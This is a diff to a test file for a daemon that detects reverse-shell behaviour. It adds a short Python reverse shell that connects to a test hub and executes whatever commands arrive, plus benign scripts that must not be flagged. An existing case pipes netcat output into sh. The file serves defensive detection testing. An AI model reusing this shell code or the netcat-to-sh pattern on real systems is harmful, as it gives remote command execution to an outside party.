@@ -1,4 +1,4 @@
-"""Shells whose commands come over a connection and through pipes are cut off; shells beside connections are not."""
+"""Who runs commands that come over a connection, through pipes or by a program, is cut off; shells beside connections are not."""
 
 from __future__ import annotations
 
@@ -84,13 +84,33 @@ def test_a_shell_between_two_connections(shared_daemon: Daemon, far: FarSide, tm
         found(shared_daemon)
 
 
-def found(daemon: Daemon) -> None:
+OBEDIENT = """
+import socket, subprocess, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+while line := s.recv(4096):
+    s.sendall(subprocess.run(line, shell=True, capture_output=True).stdout + b"> ")
+"""
+
+
+def test_a_program_that_does_as_it_is_told(shared_daemon: Daemon, far: FarSide, tmp_path: Path) -> None:
+    shared_daemon.watched("job")
+    with Hub(far) as hub:
+        shared_daemon.spawn("job", sys.executable, "-c", OBEDIENT, hub.host, str(hub.port), cwd=tmp_path)
+        intruder = hub.accept()
+        for _ in range(40):
+            if not command(intruder, "id\n"):
+                break
+            time.sleep(0.2)
+        found(shared_daemon, "commands-from-outside", "python3")
+
+
+def found(daemon: Daemon, rule: str = RULE, words: str = "fed through pipes by") -> None:
     daemon.wait_for("cut off", lambda: (w := daemon.workload("job")) is not None and w.observed == CUT_OFF)
     w = daemon.workload("job")
     assert w
     findings = {f.rule: f for f in daemon.client.incident(w.incident).findings}
-    assert RULE in findings
-    assert "fed through pipes by" in findings[RULE].summary
+    assert rule in findings
+    assert words in findings[rule].summary
 
 
 # --- innocent -----------------------------------------------------------------------------------------------------------
@@ -108,10 +128,33 @@ for _ in range(25):
     time.sleep(0.1)
 print("done")
 """
+TOOLS = """
+import socket, subprocess, sys, time
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+for _ in range(15):
+    s.sendall(b"a long prompt, with everything said so far; what shall I do?\\n")
+    s.recv(4096)
+    subprocess.run("date", shell=True)
+    time.sleep(0.1)
+print("done")
+"""
+MAILER = """
+import socket, subprocess, sys, time
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+found = [subprocess.run("date", shell=True, capture_output=True).stdout for _ in range(15)]
+s.sendall(b"HELO\\n")
+for line in found:
+    s.recv(4096)
+    s.sendall(line)
+    time.sleep(0.1)
+print("done")
+"""
 HONEST = {
     "an installer": "for i in 1 2 3; do nc -N {host} {port} < request | sh; done | tee log; echo done",
     "a filter to a log host": "for i in $(seq 25); do echo $i; sleep 0.1; done | rev | nc -N {host} {port} > answer; echo done",
     "an agent with a shell of its own": "exec {python} agent.py {host} {port}",
+    "an agent that runs its tools": "exec {python} tools.py {host} {port}",
+    "a mailer that has looked first": "exec {python} mailer.py {host} {port}",
     "a script that asks": "mkfifo f; bash asks.sh < f | nc {host} {port} > f; echo done",
 }  # fmt: skip
 
@@ -122,6 +165,8 @@ def test_honest_work_with_a_shell_beside_a_connection(
 ) -> None:
     shared_daemon.watched("job")
     (tmp_path / "agent.py").write_text(AGENT)
+    (tmp_path / "tools.py").write_text(TOOLS)
+    (tmp_path / "mailer.py").write_text(MAILER)
     (tmp_path / "request").write_text("which version?\n")
     (tmp_path / "asks.sh").write_text("for i in $(seq 25); do echo question $i; read -r answer; sleep 0.1; done\n")
     with Hub(far) as hub:
